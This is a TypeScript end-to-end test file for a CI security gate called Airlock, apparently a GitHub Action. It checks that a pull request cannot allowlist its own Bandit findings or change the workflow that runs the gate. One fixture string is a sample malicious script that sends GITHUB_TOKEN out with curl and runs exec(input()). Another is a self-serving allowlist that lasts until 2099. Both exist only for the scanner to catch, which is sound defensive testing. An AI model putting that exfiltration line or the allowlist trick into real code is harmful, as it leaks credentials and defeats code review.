import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { tryRunCommand } from '../../../src/exec/run-command.js';
import { CLI, runBuiltAction } from '../../helpers/action-runner.js';
import { type FakeGitHub, startFakeGitHub } from '../../helpers/fake-github.js';
import { commitOnBranch, git, initRepo } from '../../helpers/git-fixture.js';
import { ensureTestImage } from '../../helpers/test-image.js';

/**
 * The gate under review cannot change the gate (issue 15), on the built Action with a
 * real git history, real pull-request payloads, real Docker and Bandit, and the
 * fake GitHub API checked against the OpenAPI description.
 *
 * Fixture: `main` holds a policy that extends the shipped default (Semgrep set
 * explicitly optional: the test image has Bandit only) and a workflow. PR 7 adds a
 * malicious script and, in the same PR, allowlists its own findings (B602, B102)
 * until 2099 and edits the workflow. PR 8 changes only the workflow.
 */
const REPO = 'octo-org/octo-repo';
const WORKFLOW = '.github/workflows/airlock.yml';
const BASE_POLICY = 'version: 1\nextends: default\nscanners:\n  semgrep: { mode: optional }\n';
const SELF_ALLOWLIST = `allowlist:
  - { tool: bandit, ruleId: B602, paths: ["analysis/evil.py"], expires: "2099-12-31", justification: "reviewed" }
  - { tool: bandit, ruleId: B102, paths: ["analysis/evil.py"], expires: "2099-12-31", justification: "reviewed" }
`;
const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\nexec(input())\n`;
const WORKFLOW_YML = `on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: octo-org/airlock@v1\n        with: { policy: .airlock/policy.yml }\n`;

let root: string;
let ws: string;
let baseSha: string;
let pr7Sha: string;
let pr8Sha: string;
let keyPem: string;
let fake: FakeGitHub;
let image: string;

function payload(number: number, headSha: string) {
  return {
    action: 'synchronize',
    number,
    pull_request: {
      number,
      head: { sha: headSha, ref: `feature-${number}`, repo: { full_name: REPO, fork: false } },
      base: { sha: baseSha, ref: 'main', repo: { full_name: REPO, fork: false } },
    },
    repository: { full_name: REPO, name: 'octo-repo', owner: { login: 'octo-org' } },
  };
}

/** Checks out `sha` and runs the Action with the fixture's policy. */
async function runOn(opts: {
  sha: string;
  pr: number;
  prHead: string;
  event?: string;
  ref?: string;
  workspace?: string;
  inputs?: Record<string, string>;
}) {
  const workspace = opts.workspace ?? ws;
  if (workspace === ws) {
    await git(ws, ['checkout', '-q', '--detach', opts.sha]);
    await rm(join(ws, '.airlock/out'), { recursive: true, force: true });
    await rm(join(ws, '.airlock/audit'), { recursive: true, force: true });
  }
  return runBuiltAction({
    root,
    workspace,
    event: opts.event ?? 'pull_request',
    payload: payload(opts.pr, opts.prHead),
    inputs: {
      paths: 'analysis',
      policy: '.airlock/policy.yml',
      mode: 'gate',
      image,
      'signing-key': keyPem,
      'audit-branch': '',
      token: fake.token,
      'upload-sarif': 'true',
      ...opts.inputs,
    },
    env: {
      GITHUB_REPOSITORY: REPO,
      GITHUB_SHA: opts.sha,
      GITHUB_REF: opts.ref ?? `refs/pull/${opts.pr}/merge`,
      GITHUB_WORKFLOW_REF: `${REPO}/${WORKFLOW}@${opts.ref ?? `refs/pull/${opts.pr}/merge`}`,
      GITHUB_API_URL: fake.url,
    },
  });
}

beforeAll(async () => {
  image = await ensureTestImage();
  root = await mkdtemp(join(tmpdir(), 'airlock-trust-e2e-'));
  ws = join(root, 'ws');
  baseSha = await initRepo(ws, {
    '.airlock/policy.yml': BASE_POLICY,
    [WORKFLOW]: WORKFLOW_YML,
    'analysis/old_plot.py': 'print("old")\n',
  });
  pr7Sha = await commitOnBranch(ws, 'feature-7', {
    'analysis/evil.py': EVIL,
    '.airlock/policy.yml': BASE_POLICY + SELF_ALLOWLIST,
    [WORKFLOW]: WORKFLOW_YML.replace('with: { policy: .airlock/policy.yml }', "with: { fail-on: '' }"),
  });
  await git(ws, ['checkout', '-q', 'main']);
  pr8Sha = await commitOnBranch(ws, 'feature-8', { [WORKFLOW]: `${WORKFLOW_YML}# tweak\n` });
  const keys = join(root, 'keys');
  const kg = await tryRunCommand(process.execPath, [CLI, 'audit', 'keygen', '--out', keys]);
  expect(kg.exitCode, kg.stderr).toBe(0);
  keyPem = await readFile(join(keys, 'private.pem'), 'utf8');
  fake = await startFakeGitHub({ repository: REPO });
});

afterEach(() => {
  fake.assertNoViolations();
  fake.reset();
});

afterAll(async () => {
  await fake?.close();
  await rm(root, { recursive: true, force: true });
});

describe('a pull request cannot loosen its own gate', () => {
  it('blocks the self-allowlisting PR with the base policy and shows the ignored change and its diff', async () => {
    const r = await runOn({ sha: pr7Sha, pr: 7, prHead: pr7Sha });
    expect(r.exitCode, r.stdout).toBe(1);
    const evil = r.report?.scripts.find((s) => s.path === 'analysis/evil.py');
    expect(evil?.level).toBe('blocked');
    expect(evil?.findings.filter((f) => f.allowlisted)).toEqual([]);
    expect(evil?.findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(['B602', 'B102']));
    expect(r.outputs.verdict).toBe('fail');
    expect(r.outputs['policy-changed']).toBe('true');
    expect(r.outputs['scanned-count']).toBe('1');

    // The report and the audit log name the revision whose policy decided, and its digest.
    expect(r.report?.policy.revision).toBe(baseSha);
    expect(r.report?.policy.path).toBe('.airlock/policy.yml');
    const log = await readFile(join(ws, '.airlock/audit/audit.log'), 'utf8');
    const start = log
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .find((e) => e.kind === 'run.start');
    expect(start.data.policy).toEqual({
      name: 'policy',
      sha256: r.report?.policy.sha256,
      revision: baseSha,
      path: '.airlock/policy.yml',
    });

    // The summary: the policy change is reported as ignored until merge, with its diff.
    expect(r.summary).toContain('takes effect after merge');
    expect(r.summary).toContain(`as of commit \`${baseSha.slice(0, 12)}\``);
    expect(r.summary).toContain('- `.airlock/policy.yml`');
    expect(r.summary).toContain('+  - { tool: bandit, ruleId: B602, paths: ["analysis/evil.py"]');
    expect(r.stdout).toContain('policy change ignored until merge');
  });

  it('fails on the policy change itself under fail-on-policy-change', async () => {
    const r = await runOn({
      sha: pr7Sha,
      pr: 7,
      prHead: pr7Sha,
      inputs: { 'fail-on-policy-change': 'true', 'fail-on': 'failure' },
    });
    expect(r.exitCode, r.stdout).toBe(1);
    expect(r.report?.verdictReasons[0]).toMatch(/changes the policy \(\.airlock\/policy\.yml\)/);
    expect(r.outputs.verdict).toBe('fail');
  });

  it('flags a PR that changes the workflow running the gate, and says when it scanned nothing', async () => {
    const r = await runOn({ sha: pr8Sha, pr: 8, prHead: pr8Sha });
    expect(r.exitCode, r.stdout).toBe(0);
    expect(r.outputs['workflow-changed']).toBe('true');
    expect(r.outputs['policy-changed']).toBe('false');
    expect(r.outputs['scanned-count']).toBe('0');
    expect(r.stdout).toMatch(
      /::warning title=Airlock%3A this PR changes the workflow that runs the gate,file=\.github\/workflows\/airlock\.yml::/,
    );
    expect(r.summary).toContain('This pull request changes the workflow that runs the gate');
    expect(r.summary).toContain(`This run executes the changed \`${WORKFLOW}\``);
    expect(r.summary).toContain('Nothing was scanned');
    // An empty analysis of the PR's own ref closes only the PR's alerts: it is uploaded there.
    expect(fake.uploads.map((u) => u.ref)).toEqual(['refs/pull/8/merge']);

    const strict = await runOn({
      sha: pr8Sha,
      pr: 8,
      prHead: pr8Sha,
      inputs: { 'fail-on-policy-change': 'true' },
    });
    expect(strict.exitCode, strict.stdout).toBe(1);
    expect(strict.report?.verdictReasons[0]).toMatch(/changes the workflow that runs the gate/);
  });
});

describe('no silent pass', () => {
  it('fails pull_request_target on the base checkout with the fix, and uploads nothing', async () => {
    const r = await runOn({
      sha: baseSha,
      pr: 7,
      prHead: pr7Sha,
      event: 'pull_request_target',
      ref: 'refs/heads/main',
    });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toContain('NOTHING_TO_GATE');
    expect(r.stdout).toContain('Run Airlock on `pull_request` instead');
    expect(r.report).toBeNull();
    expect(fake.uploads).toHaveLength(0);
    expect(fake.requests).toHaveLength(0);
  });

  it('stops with the fix when the base commit is missing from a shallow clone', async () => {
    const shallow = join(root, 'shallow');
    await git(root, ['clone', '-q', '--depth', '1', '--branch', 'feature-7', `file://${ws}`, shallow]);
    const r = await runOn({ sha: pr7Sha, pr: 7, prHead: pr7Sha, workspace: shallow });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toContain('BASE_COMMIT_MISSING');
    expect(r.stdout).toContain('fetch-depth: 0');
    // Never a fallback to the PR's own policy: nothing ran, nothing was uploaded.
    expect(r.report).toBeNull();
    expect(fake.uploads).toHaveLength(0);
  });
});
